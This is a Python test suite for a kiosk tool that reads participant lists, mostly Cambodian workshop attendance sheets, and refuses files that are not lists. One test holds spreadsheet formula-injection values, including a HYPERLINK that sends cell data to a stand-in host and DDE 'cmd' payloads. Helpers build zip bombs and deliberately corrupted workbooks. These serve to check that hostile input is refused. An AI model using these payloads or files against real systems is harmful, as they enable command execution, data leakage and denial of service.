"""Lists as other people save them, and files that are no list: each gets people or a sentence."""

from __future__ import annotations

import dataclasses
import random
import struct
import zipfile
from collections.abc import Callable, Sequence
from datetime import date
from pathlib import Path
from uuid import uuid4

import openpyxl
import pytest
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

from kiosk.bundled import sample_file
from kiosk.domain import (
    DETAIL_FIELDS,
    AgeBand,
    Disability,
    Event,
    Person,
    PersonDetails,
    PhotoConsent,
    Sex,
)
from kiosk.language import Language, Refusal
from kiosk.services.event_file import read_event
from kiosk.services.lists import Field, ListPlan, Outcome, plan, scan

Row = Sequence[object]
CLEAN = Path(__file__).parent / "data" / "participants_80_clean.xlsx"
OTHER_FORMATS = CLEAN.parent / "other_formats"
RUINED = OTHER_FORMATS / "question_marks_saved_as_ansi.csv"


@pytest.fixture(scope="module")
def event() -> Event:
    return read_event(sample_file("workshop.toml"))


def workbook(
    path: Path, rows: Sequence[Row], change: Callable[[Worksheet], None] | None = None
) -> Path:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for row in rows:
        sheet.append(list(row))
    if change:
        change(sheet)
    book.save(path)
    return path


def rewritten(path: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    """The clean list with one part of its zip changed."""
    with zipfile.ZipFile(CLEAN) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(content) if name == part else content)
    return path


def people(planned: ListPlan) -> list[PersonDetails]:
    return [row.details for row in planned.rows if row.details]


def reasons(planned: ListPlan) -> dict[int, str]:
    return {
        row.row: row.told.text(Language.ENGLISH)
        for row in planned.rows
        if row.outcome is Outcome.REFUSED and row.told
    }


# Lists as they are --------------------------------------------------------------------------


def test_an_attendance_list_of_a_ministry_with_titles_on_two_levels(
    event: Event, tmp_path: Path
) -> None:
    rows: list[Row] = [
        ["ព្រះរាជាណាចក្រកម្ពុជា"],
        ["បញ្ជីវត្តមានសិក្ខាកាម"],
        ["ថ្ងៃទី១២ ខែកញ្ញា ឆ្នាំ២០២៣"],
        ["ល.រ", "គោត្តនាម និងនាម", None, "ភេទ", None, "មុខតំណែង", "អង្គភាព", "ហត្ថលេខា", None],
        [None, "ជាភាសាខ្មែរ", "ជាអក្សរឡាតាំង", "ស្រី", "ប្រុស", None, None, "ព្រឹក", "រសៀល"],
        ["១", "ឯកឧត្តម កែវ សំណាង", "KEO SAMNANG", None, "✓", "អនុរដ្ឋលេខាធិការ", "ក្រសួងសុខាភិបាល"],
        ["២", "លោកជំទាវ ជា ស្រីមុំ", "CHEA SREYMOM", "✓", None, "អគ្គនាយករង", "ក្រសួងផែនការ"],
        ["សរុប", None, None, 1, 1],
        [None, None, None, None, None, None, "រាជធានីភ្នំពេញ ថ្ងៃទី១២ ខែកញ្ញា ឆ្នាំ២០២៣"],
        [None, None, None, None, None, None, "ប្រធានអង្គភាព"],
    ]

    def merge(sheet: Worksheet) -> None:
        for area in ("A1:I1", "A2:I2", "B4:C4", "D4:E4", "A4:A5", "H4:I4"):
            sheet.merge_cells(area)

    planned = plan(scan(workbook(tmp_path / "a.xlsx", rows, merge)), event, ())
    first, second = people(planned)
    assert (first.honorific, first.name_km, first.name_latin) == (
        "ឯកឧត្តម",
        "កែវ សំណាង",
        "KEO SAMNANG",
    )
    assert (first.sex, second.sex) == (Sex.MALE, Sex.FEMALE)
    assert (first.position_km, first.organisation_km) == ("អនុរដ្ឋលេខាធិការ", "ក្រសួងសុខាភិបាល")
    assert set(reasons(planned)) == {8, 9, 10}


def test_a_form_in_khmer(event: Event, tmp_path: Path) -> None:
    rows: list[Row] = [
        [
            "ត្រាពេលវេលា",
            "តើអ្នកមានឈ្មោះអ្វី?",
            "ភេទ",
            "អាយុរបស់អ្នក",
            "តើអ្នកមកពីស្ថាប័នណា?",
            "តួនាទីរបស់អ្នក",
            "លេខទូរស័ព្ទ (Telegram)",
            "តើអ្នកមានពិការភាពដែរឬទេ?",
            "តើអ្នកយល់ព្រមឱ្យថតរូបដែរឬទេ?",
            "តើអ្នកចង់ចូលរួមក្រុមពិភាក្សាមួយណា?",
            "តើអ្នកត្រូវការជំនួយអ្វីខ្លះ?",
        ],
        [
            date(2023, 9, 1),
            "អ្នកស្រី សុខ\u200b ចាន់ដារ៉ា",
            "ស្រី",
            "១៨ - ៣០",
            "អង្គការ ADD International",
            "មន្ត្រី",
            12345678,
            "មាន",
            "មិនយល់ព្រម",
            "កុមារ និងយុវជន",
            "អ្នកបកប្រែភាសាសញ្ញា",
        ],
    ]
    (person,) = people(plan(scan(workbook(tmp_path / "form.xlsx", rows)), event, ()))
    assert person == PersonDetails(
        name_km="សុខ ចាន់ដារ៉ា",
        honorific="អ្នកស្រី",
        sex=Sex.FEMALE,
        age_band=AgeBand.YOUNG,
        disability=Disability.YES,
        position_km="មន្ត្រី",
        organisation_km="អង្គការ ADD International",
        category="other",
        group=5,
        phone="012345678",
        photo_consent=PhotoConsent.NO,
    )


ENGLISH: list[Row] = [
    ["Workshop on Social Protection"],
    ["Date: 13 September 2023"],
    [],
    [
        "S/N",
        "Name (Khmer)",
        "Full name - English",
        "M/F",
        "Tel./Telegram",
        "Org.",
        "Position",
        "Prov.",
    ],
    ["1", "កែវ ពិសី", "Keo Na", "F", "012345678", "Oxfam", "Officer", "PP"],
    ["Group 2"],
    ["2", "", "Jean-Pierre Dupont", "M", "+33 6 12 34 56 78", "UNDP", "Adviser", ""],
    ["3", "", "", "", "", "NSSF", "Representative (TBC)", ""],
    ["4"],
    ["Total: 3 persons"],
    ["Prepared by: Sok", "", "", "", "Approved by: Dara"],
]


def test_an_english_list_with_sections_seats_and_a_foreigner(event: Event, tmp_path: Path) -> None:
    planned = plan(scan(workbook(tmp_path / "en.xlsx", ENGLISH)), event, ())
    first, foreigner, seat = people(planned)
    assert (first.name_km, first.name_latin, first.phone) == ("កែវ ពិសី", "Keo Na", "012345678")
    assert (first.province, first.group) == ("Phnom Penh", None)
    assert (foreigner.phone, foreigner.group) == ("+33612345678", 2)
    assert (seat.name_latin, seat.organisation_en) == ("", "NSSF")
    assert reasons(planned) == {
        6: "Names no person: a section title.",
        9: "Names no person: the name is empty. Write the name in the list, or add the person at "
        "the desk.",
        10: "Names no person: a total.",
        11: "Names no person: a date or signature line.",
    }


def test_names_in_two_scripts_in_one_cell_and_titles_printed_again(
    event: Event, tmp_path: Path
) -> None:
    titles: Row = ["No", "Name", "Sex", "Organization/ស្ថាប័ន", "Phone"]
    rows: list[Row] = [
        titles,
        [1, "សុខ ដារា (Sok Dara)", "M", "អង្គការទស្សនៈពិភពលោក / World Vision Cambodia", "012 345 678"],
        [2, "Chan Srey / ចាន់ ស្រី", "F", "អង្គការ CARE", "012 345 679, 096 345 6789"],
        titles,
        [3, "H.E. Dr. Ly Na", "F", "Ministry of Health", "none"],
    ]
    planned = plan(scan(workbook(tmp_path / "both.xlsx", rows)), event, ())
    first, second, third = people(planned)
    assert (first.name_km, first.name_latin) == ("សុខ ដារា", "Sok Dara")
    assert first.organisation_km == "អង្គការទស្សនៈពិភពលោក"
    assert first.organisation_en == "World Vision Cambodia"
    assert (second.name_km, second.name_latin) == ("ចាន់ ស្រី", "Chan Srey")
    assert (second.organisation_km, second.organisation_en) == ("អង្គការ CARE", "")
    assert second.note == "Phone: 096 3456 789"
    assert (third.honorific, third.name_latin, third.phone) == ("H.E. Dr.", "Ly Na", "")
    assert reasons(planned) == {4: "Names no person: the titles again."}


def test_rows_whose_name_cannot_be_believed_are_refused(event: Event, tmp_path: Path) -> None:
    names = [
        '=HYPERLINK("http://x/?"&B2,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1",
        "+cmd|' /C calc'!A0",
        "????? ????",
        "x" * 300,
        "012 345 678",
        "-",
    ]
    rows: list[Row] = [["No", "Name", "Organisation"], [0, "Keo Na", "Oxfam"]]
    rows += [[number, name, None] for number, name in enumerate(names, 1)]
    planned = plan(scan(workbook(tmp_path / "bad.xlsx", rows)), event, ())
    assert [details.name_latin for details in people(planned)] == ["Keo Na"]
    told = reasons(planned)
    assert [told[row].split(" ")[0:3] for row in range(3, 11)] == [
        ["The", "name", "is"],
        ["The", "name", "is"],
        ["The", "name", "is"],
        ["The", "name", "is"],
        ["The", "name", "was"],
        ["The", "name", "has"],
        ["“012", "345", "678”"],
        ["Names", "no", "person:"],
    ]


def test_a_formula_that_only_joins_names_is_taken_by_its_stored_result(
    event: Event, tmp_path: Path
) -> None:
    def with_formulas(xml: bytes) -> bytes:
        cell = b'<c r="C2" t="str"><f>B2&amp;" x"</f><v>HONG Borey</v></c>'
        return xml.replace(_cell(xml, b"C2"), cell).replace(
            _cell(xml, b"C3"),
            b'<c r="C3" t="str"><f>HYPERLINK("http://x","CHEUNG")</f><v>CHEUNG</v></c>',
        )

    path = rewritten(tmp_path / "f.xlsx", "xl/worksheets/sheet1.xml", with_formulas)
    planned = plan(scan(path), event, ())
    rows = {row.row: row for row in planned.rows}
    assert rows[2].details is not None
    assert rows[2].details.name_latin == "HONG Borey"
    assert rows[3].outcome is Outcome.REFUSED


def _cell(xml: bytes, place: bytes) -> bytes:
    start = xml.index(b'<c r="' + place + b'"')
    return xml[start : xml.index(b"</c>", start) + 4]


def test_control_characters_in_a_name_are_taken_out_and_said(event: Event, tmp_path: Path) -> None:
    path = tmp_path / "controls.csv"
    path.write_text("Name,Sex\nSok\x07 Da\u202era,F\n", "utf-8")
    planned = plan(scan(path), event, ())
    assert [details.name_latin for details in people(planned)] == ["Sok Dara"]
    assert [note.row for note in planned.notes] == [2, None]


def test_a_sheet_without_titles_asks_and_is_read_once_its_columns_are_chosen(
    event: Event, tmp_path: Path
) -> None:
    rows: list[Row] = [
        [1, "សុខ ដារា", "Sok Dara", "M", "012 345 678"],
        [2, "ចាន់ ស្រី", "Chan Srey", "F", "015 345 678"],
    ]
    scanned = scan(workbook(tmp_path / "bare.xlsx", rows))
    planned = plan(scanned, event, ())
    assert [row.outcome for row in planned.rows] == [Outcome.ASK]
    assert {c.letters: c.suggestion for c in planned.columns} == {
        "A": None,
        "B": Field.NAME,
        "C": Field.NAME,
        "D": Field.SEX,
        "E": Field.PHONE,
    }
    chosen = {f"Sheet!{c.letters}": c.suggestion for c in planned.columns}
    taken = plan(scanned, event, (), columns=chosen)
    assert [(d.name_km, d.name_latin, d.sex, d.phone) for d in people(taken)] == [
        ("សុខ ដារា", "Sok Dara", Sex.MALE, "012345678"),
        ("ចាន់ ស្រី", "Chan Srey", Sex.FEMALE, "015345678"),
    ]


def test_a_choice_made_by_hand_is_remembered_by_the_title(event: Event, tmp_path: Path) -> None:
    rows: list[Row] = [["Name", "Shirt size"], ["Sok Dara", "XL"]]
    scanned = scan(workbook(tmp_path / "shirt.xlsx", rows))
    (column,) = [c for c in plan(scanned, event, ()).columns if c.letters == "B"]
    assert column.field is None
    (person,) = people(plan(scanned, event, (), columns={column.key: Field.NOTE}))
    assert person.note == "Shirt size: XL"


def test_a_title_that_is_only_near_is_suggested_and_asked(event: Event, tmp_path: Path) -> None:
    rows: list[Row] = [["Name", "Designasion"], ["Sok Dara", "Officer"]]
    planned = plan(scan(workbook(tmp_path / "near.xlsx", rows)), event, ())
    (column,) = [c for c in planned.columns if c.letters == "B"]
    assert column.field == Field.POSITION
    rows = [["Name", "Provinse"], ["Sok Dara", "Takeo"]]
    planned = plan(scan(workbook(tmp_path / "far.xlsx", rows)), event, ())
    (column,) = [c for c in planned.columns if c.letters == "B"]
    assert (column.field, column.suggestion) == (None, Field.PROVINCE)
    assert [details.province for details in people(planned)] == [""]
    asked = [note.told.text(Language.ENGLISH) for note in planned.questions]
    assert asked[0].startswith("Does the column “Provinse” hold the province?")


def test_a_web_page_saved_as_xls_is_read(event: Event, tmp_path: Path) -> None:
    path = tmp_path / "report.xls"
    path.write_text(
        '<html><head><meta charset="utf-8"></head><body><table>'
        "<tr><td colspan=3>Participants</td></tr><tr><th>Name</th><th>Sex</th><th>Tel</th></tr>"
        "<tr><td>ឈិន&nbsp;ស្រីមុំ</td><td>F</td><td>12345678</td></tr></table></body></html>",
        "utf-8",
    )
    (person,) = people(plan(scan(path), event, ()))
    assert (person.name_km, person.sex, person.phone) == ("ឈិន ស្រីមុំ", Sex.FEMALE, "012345678")


def test_two_people_of_one_name_are_told_apart(event: Event, tmp_path: Path) -> None:
    path = tmp_path / "namesakes.csv"
    path.write_text(
        "Name,Phone,Organisation\nSok Dara,012000101,Oxfam\nSok Dara,015000202,UNDP\n"
        "Sok Dara,016000303,Oxfam\n",
        "utf-8",
    )
    outcomes = [row.outcome for row in plan(scan(path), event, ()).rows]
    assert outcomes == [Outcome.NEW, Outcome.NEW, Outcome.ASK]


def test_namesakes_in_the_event_are_asked_about_where_nothing_tells_which(
    event: Event, tmp_path: Path
) -> None:
    path = tmp_path / "one.csv"
    path.write_text("Name\nSok Dara\n", "utf-8")
    (row,) = plan(scan(path), event, ()).rows
    assert row.details is not None
    said = {name: getattr(row.details, name) for name in DETAIL_FIELDS}
    twins = [Person(id=uuid4(), code=code, **said) for code in ("a", "b")]
    (again,) = plan(scan(path), event, twins[:1]).rows
    assert again.outcome is Outcome.SAME
    other = [
        dataclasses.replace(twin, phone=phone)
        for twin, phone in zip(twins, ("1", "2"), strict=True)
    ]
    (torn,) = plan(scan(path), event, other).rows
    assert torn.outcome is Outcome.ASK
    assert torn.told is not None
    assert torn.told.text(Language.ENGLISH).startswith("2 people in the event have this name")


# Far, many and empty -------------------------------------------------------------------------


def _with_rows(more: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", more + b"</sheetData>")


@pytest.mark.parametrize("place", ["A1048576", "XFD1048576"])
def test_a_cell_at_the_end_of_the_sheet_costs_nothing_and_is_named(
    event: Event, tmp_path: Path, place: str
) -> None:
    stray = f'<row r="1048576"><c r="{place}"><v>1</v></c></row>'.encode()
    path = rewritten(tmp_path / "far.xlsx", "xl/worksheets/sheet1.xml", _with_rows(stray))
    planned = plan(scan(path), event, ())
    assert planned.count(Outcome.NEW) == 80
    assert list(reasons(planned)) == [1048576]


def test_a_million_empty_rows_are_no_rows(event: Event, tmp_path: Path) -> None:
    empty = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(82, 1048577))
    path = rewritten(tmp_path / "empty.xlsx", "xl/worksheets/sheet1.xml", _with_rows(empty))
    planned = plan(scan(path), event, ())
    assert len(planned.rows) == planned.count(Outcome.NEW) == 80


def test_cells_of_a_limon_font_are_never_taken_for_latin(event: Event, tmp_path: Path) -> None:
    def limon(sheet: Worksheet) -> None:
        for place in ("A2", "C2", "A3"):
            sheet[place].font = Font(name="Limon S1")

    rows: list[Row] = [
        ["Name", "Name in English", "Organisation"],
        ["sYn esaPa", "Soun Sophea", "GgÁkar"],
        ["cin srI", None, "Oxfam"],
    ]
    planned = plan(scan(workbook(tmp_path / "limon.xlsx", rows, limon)), event, ())
    (person,) = people(planned)
    assert (person.name_km, person.name_latin, person.organisation_en) == ("", "Soun Sophea", "")
    assert "Limon S1" in reasons(planned)[3]


# Files that are no list ------------------------------------------------------------------------


def _zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def _bomb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for _ in range(700):
                part.write(bytes(1_000_000))
    return path


def _lying_bomb(path: Path) -> Path:
    """A zip whose parts are larger than its directory says."""
    rewritten(path, "xl/worksheets/sheet1.xml", lambda xml: xml + b" " * 30_000_000)
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    content = path.read_bytes().replace(struct.pack("<L", size), struct.pack("<L", 5000))
    path.write_bytes(content)
    return path


def _locked(path: Path) -> Path:
    """A zip whose entries carry the flag of a password."""
    content = bytearray(CLEAN.read_bytes())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(mark, start + 4)
    path.write_bytes(bytes(content))
    return path


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def _write(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


def _folder(path: Path) -> Path:
    path.mkdir()
    return path


NO_LISTS: dict[str, tuple[Callable[[Path], Path], str]] = {
    "missing.xlsx": (lambda p: p, "There is no file"),
    "folder.xlsx": (_folder, "is a folder"),
    "empty.csv": (lambda p: _write(p, b""), "is empty"),
    "blank.csv": (lambda p: _write(p, b"\xef\xbb\xbf\r\n\r\n"), "is empty"),
    "only_titles.csv": (lambda p: _write(p, b"Name,Sex,Phone\n"), "No names were found"),
    "prose.txt": (lambda p: _write(p, b"Dear all,\nplease come.\nBest\n"), "No names were found"),
    "page.xls": (lambda p: _write(p, b"<html><body>hello</body></html>"), "is a web page"),
    "old.xml": (lambda p: _write(p, b"<?xml version='1.0'?><Workbook/>"), "is an XML file"),
    "people.json": (lambda p: _write(p, b'[{"name": "Sok"}]'), "is a JSON file"),
    "letter.xlsx": (lambda p: _zip(p, {"word/document.xml": b"<w/>"}), "is a Word document"),
    "talk.xlsx": (lambda p: _zip(p, {"ppt/presentation.xml": b"<p/>"}), "is a presentation"),
    "things.xlsx": (lambda p: _zip(p, {"a.txt": b"a"}), "is a packed folder"),
    "scan.xlsx": (lambda p: _write(p, b"%PDF-1.7\n" + bytes(50)), "is a PDF"),
    "photo.csv": (lambda p: _write(p, b"\xff\xd8\xff\xe0" + bytes(50)), "is a picture"),
    "noise.csv": (lambda p: _write(p, bytes(range(256)) * 40), "is no text and no workbook"),
    "letter.xls": (
        lambda p: _write(p, OLE + "WordDocument".encode("utf-16-le")),
        "is a Word document",
    ),
    "broken.xls": (lambda p: _write(p, OLE + "Workbook".encode("utf-16-le")), "is damaged"),
    "secret.xlsx": (
        lambda p: _write(p, OLE + "EncryptedPackage".encode("utf-16-le")),
        "is locked with a password",
    ),
    "locked.xlsx": (_locked, "is locked with a password"),
    "half.xlsx": (lambda p: _write(p, CLEAN.read_bytes()[:9000]), "is damaged"),
    "no_sheet.xlsx": (
        lambda p: rewritten(p, "xl/worksheets/sheet1.xml", lambda xml: b"<worksheet><sheetD"),
        "is damaged",
    ),
    "misplaced.xlsx": (
        lambda p: rewritten(
            p,
            "xl/worksheets/sheet1.xml",
            lambda xml: xml.replace(b'<c r="C9"', b"<c r = 'C999999999'", 1),
        ),
        "is damaged",
    ),
    "bomb.xlsx": (_bomb, "holds 700 MB"),
    "lying_bomb.xlsx": (_lying_bomb, "is damaged"),
    "ruined.csv": (lambda p: _write(p, RUINED.read_bytes()), "was lost when it was saved"),
    "ruined.xlsx": (
        lambda p: workbook(p, [["Name", "Sex"], ["??? ????", "F"], ["???? ??", "M"]]),
        "was lost when it was saved",
    ),
}


@pytest.mark.parametrize("name", NO_LISTS)
def test_a_file_that_is_no_list_gets_a_sentence_in_both_languages(
    tmp_path: Path, name: str
) -> None:
    make, words = NO_LISTS[name]
    path = make(tmp_path / name)
    with pytest.raises(Refusal) as refused:
        scan(path)
    assert words in refused.value.text(Language.ENGLISH)
    assert name in refused.value.text(Language.KHMER)


@pytest.mark.parametrize("share", [0.1, 0.3, 0.5, 0.7, 0.9, 0.99])
def test_a_list_that_was_cut_short_gets_a_sentence(tmp_path: Path, share: float) -> None:
    whole = CLEAN.read_bytes()
    path = _write(tmp_path / "cut.xlsx", whole[: int(len(whole) * share)])
    with pytest.raises(Refusal, match="damaged or cut short"):
        scan(path)


@pytest.mark.parametrize("name", ["participants_80.xls", "participants_80.ods", CLEAN.name])
def test_a_damaged_workbook_gives_people_or_a_sentence_and_nothing_else(
    tmp_path: Path, event: Event, name: str
) -> None:
    """40 copies of each, a few bytes of each changed: no other error gets through."""
    whole = (CLEAN if name == CLEAN.name else OTHER_FORMATS / name).read_bytes()
    chance = random.Random(name)
    path = tmp_path / name
    refused = 0
    for _ in range(40):
        content = bytearray(whole)
        for _ in range(chance.choice((1, 8, 200))):
            content[chance.randrange(len(content))] = chance.randrange(256)
        path.write_bytes(content)
        try:
            plan(scan(path), event, ())
        except Refusal:
            refused += 1
    assert refused > 0


# An xlsb, written here record by record ([MS-XLSB] 2.1.4): no program on hand writes it -------


def _record(kind: int, data: bytes = b"") -> bytes:
    head = bytes([kind]) if kind < 128 else bytes([kind & 0x7F | 0x80, kind >> 7])
    return head + bytes([len(data) & 0x7F | 0x80, len(data) >> 7]) + data


def _wide(text: str) -> bytes:
    return struct.pack("<I", len(text)) + text.encode("utf-16-le")


def _xlsb_row(number: int, texts: Sequence[str], hidden: bool) -> bytes:
    """A row of texts; one that begins with "=" is the result of a formula."""
    options = 0x10 if hidden else 0
    cells = [_record(0, struct.pack("<IIHBBBI", number, 0, 300, 0, options, 0, 0))]
    for column, text in enumerate(texts):
        start = struct.pack("<II", column, 0)
        if text.startswith("="):
            cells.append(_record(8, start + _wide(text[1:]) + bytes(10)))
        elif text:
            cells.append(_record(6, start + _wide(text)))
    return b"".join(cells)


def _xlsb(path: Path, rows: Sequence[Sequence[str]], hidden_row: int) -> Path:
    cells = b"".join(_xlsb_row(n, row, n == hidden_row) for n, row in enumerate(rows))
    extent = struct.pack("<4I", 0, len(rows) - 1, 0, 9)
    sheet = _record(129) + _record(148, extent) + _record(145) + cells + _record(146) + _record(130)
    bundle = struct.pack("<II", 0, 1) + _wide("rId1") + _wide("Sheet1")
    book = _record(131) + _record(143) + _record(156, bundle) + _record(144) + _record(132)
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="{}" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/{}"/></Relationships>'
    )
    parts = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": relation.format("xl/workbook.bin", "officeDocument").encode(),
        "xl/_rels/workbook.bin.rels": relation.format(
            "worksheets/sheet1.bin", "worksheet"
        ).encode(),
        "xl/workbook.bin": book,
        "xl/worksheets/sheet1.bin": sheet,
    }
    return _zip(path, parts)


def test_an_xlsb_with_a_hidden_row_and_a_formula_for_a_name(event: Event, tmp_path: Path) -> None:
    rows = [["Name", "Sex"], ["សុខ ដារា", "F"], ["Keo Na", "M"], ["=Click", "M"]]
    planned = plan(scan(_xlsb(tmp_path / "list.xlsb", rows, hidden_row=2)), event, ())
    assert [(details.name_km, details.sex) for details in people(planned)] == [
        ("សុខ ដារា", Sex.FEMALE)
    ]
    told = reasons(planned)
    assert told[3].startswith("The row is hidden")
    assert told[4].startswith("The name is a formula")


def test_an_xlsb_with_a_cell_at_the_end_of_the_sheet_is_refused(tmp_path: Path) -> None:
    rows = [["Name"], ["Sok Dara"]]
    path = _xlsb(tmp_path / "far.xlsb", rows, hidden_row=-1)
    far = _xlsb_row(1048575, [""] * 900 + ["x"], hidden=False)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.bin"]
    parts["xl/worksheets/sheet1.bin"] = sheet.replace(_record(146), far + _record(146))
    with pytest.raises(Refusal, match="more rows than any list"):
        scan(_zip(path, parts))


def test_a_default_category_that_the_event_does_not_have_is_refused(event: Event) -> None:
    with pytest.raises(Refusal, match="is not a category of this event"):
        plan(scan(CLEAN), event, (), default_category="vip")


def test_planning_tells_its_progress_and_can_be_given_up(event: Event, tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_text("Name,Sex\n" + "".join(f"Person {n},F\n" for n in range(1200)), "utf-8")
    scanned = scan(path)
    told: list[tuple[int, int]] = []
    plan(scanned, event, (), progress=lambda done, total: told.append((done, total)))
    assert told == [(done, 3600) for done in range(500, 3600, 500)]

    def give_up(done: int, total: int) -> None:
        raise InterruptedError

    with pytest.raises(InterruptedError):
        plan(scanned, event, (), progress=give_up)
